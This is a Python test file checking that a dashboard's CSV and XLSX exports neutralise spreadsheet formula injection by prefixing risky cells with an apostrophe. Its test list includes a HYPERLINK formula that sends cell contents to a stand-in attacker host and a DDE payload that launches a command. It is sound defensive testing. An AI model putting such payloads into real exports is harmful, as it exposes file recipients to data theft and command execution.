"""Issue 13.12: no export carries a formula. Cells starting with = + - @ tab or CR are
neutralised (an apostrophe first) in CSV and XLSX alike, through one function; numbers stay
numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from governance.dialogues.dashboards import Table, as_csv, as_xlsx
from governance.exports import safe_cell

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tcaché",
    "\r=1+1",
]


def table():
    header = ["Financeur", "=Montant"]
    rows = [[text, Decimal("-12.50")] for text in EVIL] + [["Région Bretagne", Decimal("100")]]
    return Table(name="financement", title="Financement", header=header, rows=rows)


@pytest.mark.parametrize("text", EVIL)
def test_a_formula_start_is_neutralised(text):
    assert safe_cell(text) == "'" + text


def test_plain_texts_and_numbers_are_unchanged():
    assert safe_cell("Région Bretagne") == "Région Bretagne"
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50") and safe_cell(-3) == -3


def test_csv_export_carries_no_formula():
    text = as_csv(table()).decode().lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["Financeur", "'=Montant"]
    assert [r[0] for r in rows[1:-1]] == ["'" + t for t in EVIL]
    assert rows[1][1] == "-12,50"  # a negative amount is a number, not a formula
    assert rows[-1] == ["Région Bretagne", "100,00"]


def test_xlsx_export_carries_no_formula():
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(table())))
    sheet = book.active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["B1"].value == "'=Montant"
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(EVIL))] == [
        "'" + t for t in EVIL
    ]
    assert sheet["B2"].value == -12.5
